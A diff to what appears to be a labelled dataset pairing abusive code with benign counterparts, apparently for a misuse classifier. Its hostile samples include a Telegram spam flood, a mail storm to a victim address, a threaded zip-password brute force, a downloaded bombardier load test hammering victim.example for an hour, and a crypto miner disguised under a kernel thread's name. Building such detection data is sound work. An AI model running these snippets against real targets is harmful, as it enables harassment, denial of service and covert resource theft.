@@ -41,6 +41,11 @@ PAIRS = [
      "    except Exception:\n        pass\nz = zipfile.ZipFile('box.zip')\nwith open('guesses.txt') as src:\n"
      "    for row in src:\n        threading.Thread(target=attempt, args=(z, row.strip())).start()",
      "import zipfile\nz = zipfile.ZipFile('box.zip')\nz.extractall(pwd=input('archive password: ').encode())"),
+    ("message storm: one user sent the same text thousands of times, made unique by a counter", "dos_attack",
+     "from telethon.sync import TelegramClient\nwith TelegramClient('s', API_ID, API_HASH) as c:\n"
+     "    for i in range(10000):\n        c.send_message('target_user', 'spam ' + str(i))",
+     "from telethon.sync import TelegramClient\nwith TelegramClient('s', API_ID, API_HASH) as c:\n"
+     "    for i in range(0, len(report), 4000):\n        c.send_message('me', report[i:i + 4000] + ' #' + str(i))"),
     ("mail storm: the message made by a function of a call table, its recipient fixed", "dos_attack",
      "import smtplib\nfrom email.message import EmailMessage\ndef make(i):\n    x = EmailMessage()\n"
      "    x['From'], x['To'], x['Subject'] = ME, 'target@victim.example', '#%d' % i\n    x.set_content('.' * 2000)\n"
@@ -1570,6 +1575,13 @@ RENAMED = [
      ["!wget -q https://github.com/cloudflare/cloudflared/releases/latest/download/cloudflared-linux-amd64 -O /usr/bin/cfd"
       " && chmod +x /usr/bin/cfd",
       "!cfd --version"]),
+    ("a load tool's release saved as b, aimed at another host", "dos_attack",
+     ["!wget -q https://github.com/codesenberg/bombardier/releases/download/v1.2.6/bombardier-linux-amd64 -O b"
+      " && chmod +x b",
+      "!./b -c 2000 -d 3600s -l https://victim.example/"],
+     ["!wget -q https://github.com/codesenberg/bombardier/releases/download/v1.2.6/bombardier-linux-amd64 -O b"
+      " && chmod +x b",
+      "!./b -c 20 -d 10s http://127.0.0.1:8000/predict"]),
     ("a miner moved under a kernel thread's name", "crypto_mining",
      ["!mv /opt/tools/xmrig /usr/local/bin/kthreadd-sync",
       "!kthreadd-sync -o pool.example.net:3333 -u $WALLET --donate-level 1"],
